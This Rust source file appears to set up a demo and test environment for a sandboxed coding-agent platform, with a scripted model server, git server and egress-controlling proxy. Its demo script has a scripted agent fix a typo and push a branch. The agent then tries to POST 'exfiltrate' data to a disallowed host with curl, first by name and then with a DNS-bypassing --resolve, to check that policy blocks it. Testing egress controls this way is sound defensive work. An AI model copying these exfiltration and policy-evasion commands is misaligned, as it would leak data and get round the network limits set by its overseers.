//! The demo world: the platform plus honest local stand-ins for what a
//! fresh machine cannot reach — a model server speaking the Anthropic
//! Messages wire format (streaming) with a fixed script, and a git
//! smart-HTTP server (the real `git http-backend`) — both behind TLS from a
//! test CA. The platform is configured exactly as an operator would
//! configure it for hosted services; the only demo-specific settings are
//! the proxy's static resolution of `*.evershell.test` to these loopback
//! servers and the test CA as an extra upstream root.
//!
//! `evershell demo` and the end-to-end tests both run in this world.

use std::net::SocketAddr;
use std::path::PathBuf;

use anyhow::Context;
use evershell_proxy::ca::CertificateAuthority;
use evershell_server::{RunningServer, ServerConfig};
use evershell_testkit::git::GitServer;
use evershell_testkit::model::{ModelServerConfig, ScriptStep, ScriptedModelServer};
use serde_json::{json, Value};

use crate::client::{Client, Profile};

pub const MODEL_HOST: &str = "models.evershell.test";
pub const GIT_HOST: &str = "git.evershell.test";
/// An upstream that records what reaches it (used by tests).
pub const ECHO_HOST: &str = "echo.evershell.test";
/// A host no role of the demo allows.
pub const FORBIDDEN_HOST: &str = "paste.evershell.test";
/// The provider key: stored encrypted, injected by the proxy, never seen by
/// the agent. The model server refuses requests that lack it.
pub const DEMO_API_KEY: &str = "sk-ant-demo-7f3c9a1e5b2d4c6a-never-in-the-sandbox";
pub const ROLE: &str = "fix-typo";
pub const REPO: &str = "demo";
pub const BRANCH: &str = "evershell/fix-typo";

/// The role's capabilities: read and push the demo repository, nothing else.
pub const DEMO_CAPS: &str = r#"- name: demo-git
  type: http
  allow:
    - name: fetch
      domains: [git.evershell.test]
      methods: [GET, POST]
      paths: [/demo.git/info/refs, /demo.git/git-upload-pack]
    - name: push
      domains: [git.evershell.test]
      methods: [POST]
      paths: [/demo.git/git-receive-pack]
"#;

/// The platform and its stand-in upstreams, in one temporary directory.
pub struct DemoWorld {
    pub dir: tempfile::TempDir,
    pub ca: CertificateAuthority,
    pub git: GitServer,
    pub model: ScriptedModelServer,
    /// Records every request that reaches `echo.evershell.test`.
    pub echo: ScriptedModelServer,
    pub server: RunningServer,
    pub client: Client,
    /// The throwaway PostgreSQL database the platform runs on, when started
    /// with [`DemoWorld::start_on_temp_postgres`]; dropped last.
    pub database: Option<evershell_testkit::postgres::TempDatabase>,
}

impl DemoWorld {
    /// Starts everything; `exe` is the `evershell` binary mounted into
    /// sandboxes.
    pub async fn start(script: Vec<ScriptStep>, exe: PathBuf) -> anyhow::Result<DemoWorld> {
        let dir = tempfile::Builder::new()
            .prefix("evershell-demo-")
            .tempdir()?;
        let listen = "127.0.0.1:0".parse().expect("literal address");
        DemoWorld::start_in(dir, listen, script, exe).await
    }

    /// Like [`DemoWorld::start`], on a fresh PostgreSQL database of the
    /// local server (see [`evershell_testkit::postgres`]), dropped with the
    /// world.
    pub async fn start_on_temp_postgres(
        script: Vec<ScriptStep>,
        exe: PathBuf,
    ) -> anyhow::Result<DemoWorld> {
        let database = evershell_testkit::postgres::TempDatabase::create()
            .await
            .context("creating a PostgreSQL database on 127.0.0.1:5432")?;
        let mut world = DemoWorld::start_on(database.url(), script, exe).await?;
        world.database = Some(database);
        Ok(world)
    }

    /// Like [`DemoWorld::start`], with the platform's database at
    /// `database_url` (`postgres://…` runs it on PostgreSQL).
    pub async fn start_on(
        database_url: &str,
        script: Vec<ScriptStep>,
        exe: PathBuf,
    ) -> anyhow::Result<DemoWorld> {
        let dir = tempfile::Builder::new()
            .prefix("evershell-demo-")
            .tempdir()?;
        let listen = "127.0.0.1:0".parse().expect("literal address");
        DemoWorld::start_with(dir, listen, script, exe, Some(database_url.to_string())).await
    }

    /// Like [`DemoWorld::start`], in `dir` (the platform's data directory is
    /// `dir/data`) with the API on `listen`.
    pub async fn start_in(
        dir: tempfile::TempDir,
        listen: SocketAddr,
        script: Vec<ScriptStep>,
        exe: PathBuf,
    ) -> anyhow::Result<DemoWorld> {
        DemoWorld::start_with(dir, listen, script, exe, None).await
    }

    async fn start_with(
        dir: tempfile::TempDir,
        listen: SocketAddr,
        script: Vec<ScriptStep>,
        exe: PathBuf,
        database_url: Option<String>,
    ) -> anyhow::Result<DemoWorld> {
        let ca = CertificateAuthority::generate("Evershell demo upstream CA")?;
        let loopback: SocketAddr = "127.0.0.1:0".parse().expect("literal address");

        let repos = dir.path().join("repos");
        std::fs::create_dir_all(&repos)?;
        evershell_testkit::git::init_repo(&repos, &format!("{REPO}.git"), &demo_repo_files())
            .context("creating the demo repository")?;
        let git_tls = evershell_testkit::tls::server_config(&ca, &[GIT_HOST])?;
        let git = GitServer::start(repos, git_tls, loopback)
            .await
            .context("starting the git server")?;

        let model_tls = evershell_testkit::tls::server_config(&ca, &[MODEL_HOST])?;
        let model = evershell_testkit::model::start(ModelServerConfig {
            addr: loopback,
            tls: Some(model_tls),
            expected_api_key: Some(DEMO_API_KEY.to_string()),
            script,
        })
        .await
        .context("starting the model server")?;

        // An echo upstream (a model server without a script or key check)
        // for tests that need to see what the proxy forwarded.
        let echo_tls = evershell_testkit::tls::server_config(&ca, &[ECHO_HOST])?;
        let echo = evershell_testkit::model::start(ModelServerConfig {
            addr: loopback,
            tls: Some(echo_tls),
            expected_api_key: None,
            script: Vec::new(),
        })
        .await
        .context("starting the echo server")?;

        let mut config = ServerConfig::new(dir.path().join("data"), listen, exe);
        config.database_url = database_url;
        config
            .proxy
            .resolve
            .insert(format!("{ECHO_HOST}:443"), echo.addr());
        config
            .proxy
            .resolve
            .insert(format!("{GIT_HOST}:443"), git.addr());
        config
            .proxy
            .resolve
            .insert(format!("{MODEL_HOST}:443"), model.addr());
        config.proxy.extra_roots_pem.push(ca.cert_pem().to_string());
        let server = evershell_server::start(config)
            .await
            .context("starting the platform")?;
        let api_key = server
            .bootstrap
            .api_key
            .clone()
            .context("a fresh data directory yields a key")?;
        let client = Client::new(Profile {
            url: format!("http://{}", server.addr),
            slug: server.bootstrap.org_slug.clone(),
            api_key,
            token: None,
        });
        Ok(DemoWorld {
            dir,
            ca,
            git,
            model,
            echo,
            server,
            client,
            database: None,
        })
    }

    /// Creates the demo's credential, provider and role `role` with `caps`.
    pub async fn configure(&self, role: &str, caps: &str) -> anyhow::Result<()> {
        let c = &self.client;
        // API keys never hold `auth:write`: the provider key is stored by
        // the installation admin, on the server host, as an operator would.
        let credential = serde_json::from_value(json!({
            "name": "demo-anthropic", "provider": "anthropic", "kind": "api_key", "api_key": DEMO_API_KEY,
        }))?;
        let ctx = &self.server.ctx;
        evershell_server::admin::create_credential(
            &ctx.store,
            &ctx.master,
            &self.server.bootstrap.org_slug,
            credential,
        )
        .await?;
        let _: Value = c
            .post(
                "/v1/providers",
                &json!({
                    "name": "demo-anthropic", "kind": "anthropic", "domain": MODEL_HOST,
                    "credential_name": "demo-anthropic", "default_model": "claude-demo",
                }),
            )
            .await?;
        self.add_role(role, caps).await
    }

    pub async fn add_role(&self, role: &str, caps: &str) -> anyhow::Result<()> {
        let _: Value = self
            .client
            .post("/v1/agent-roles", &json!({
                "name": role, "provider_id": "demo-anthropic", "capabilities": caps,
                "environment_description": "You maintain the demo repository at https://git.evershell.test/demo.git.",
                "max_continuations": 20, "task_timeout_seconds": 300,
            }))
            .await?;
        Ok(())
    }

    /// The bare repository the git server serves.
    pub fn repo_path(&self) -> PathBuf {
        self.dir.path().join("repos").join(format!("{REPO}.git"))
    }

    pub async fn shutdown(self) {
        self.server.shutdown().await;
    }
}

/// The demo repository: a README with a typo.
pub fn demo_repo_files() -> Vec<(&'static str, &'static str)> {
    vec![
        (
            "README.md",
            "# Demo\n\nEvershell runs autonmous coding agents in governed workspaces.\n",
        ),
        ("src/hello.py", "print('hello')\n"),
    ]
}

/// The model's script: clone, fix the typo, commit, push a branch, then try
/// to send data to a host the role does not allow (first by name, then by
/// going around DNS), and report.
pub fn demo_script() -> Vec<ScriptStep> {
    let bash = |command: &str| ("bash".to_string(), json!({ "command": command }));
    vec![
        ScriptStep::ToolCalls(vec![bash(&format!("git clone https://{GIT_HOST}/{REPO}.git /workspace/{REPO}"))]),
        ScriptStep::ToolCalls(vec![bash(&format!("grep -n autonmous /workspace/{REPO}/README.md"))]),
        ScriptStep::ToolCalls(vec![(
            "edit_file".to_string(),
            json!({ "path": format!("/workspace/{REPO}/README.md"), "old": "autonmous", "new": "autonomous" }),
        )]),
        ScriptStep::ToolCalls(vec![bash(&format!(
            "cd /workspace/{REPO} && git checkout -b {BRANCH} && \
             git -c user.name='Evershell Agent' -c user.email=agent@evershell.test commit -am 'Fix typo in README' && \
             git push origin {BRANCH}"
        ))]),
        ScriptStep::ToolCalls(vec![bash(&format!(
            "curl -sS -m 10 -X POST --data 'notes=exfiltrate' https://{FORBIDDEN_HOST}/upload; echo; \
             curl -sS -m 10 -X POST --data 'notes=exfiltrate' --resolve {FORBIDDEN_HOST}:80:198.18.0.1 http://{FORBIDDEN_HOST}/upload"
        ))]),
        ScriptStep::Text(format!(
            "Fixed the typo (autonmous → autonomous) and pushed branch {BRANCH}. The upload to {FORBIDDEN_HOST} was denied by policy, as expected."
        )),
    ]
}

/// The tool results the agent sent back to the model, in order, read from
/// the last request the model server received (each request carries the
/// whole conversation).
pub fn tool_results(model: &ScriptedModelServer) -> Vec<String> {
    let Some(last) = model.requests().into_iter().last() else {
        return Vec::new();
    };
    let mut out = Vec::new();
    for message in last.body["messages"].as_array().into_iter().flatten() {
        for block in message["content"].as_array().into_iter().flatten() {
            if block["type"] != "tool_result" {
                continue;
            }
            let text = match &block["content"] {
                Value::String(s) => s.clone(),
                Value::Array(parts) => parts
                    .iter()
                    .filter_map(|p| p["text"].as_str())
                    .collect::<Vec<_>>()
                    .join(""),
                other => other.to_string(),
            };
            out.push(text);
        }
    }
    out
}
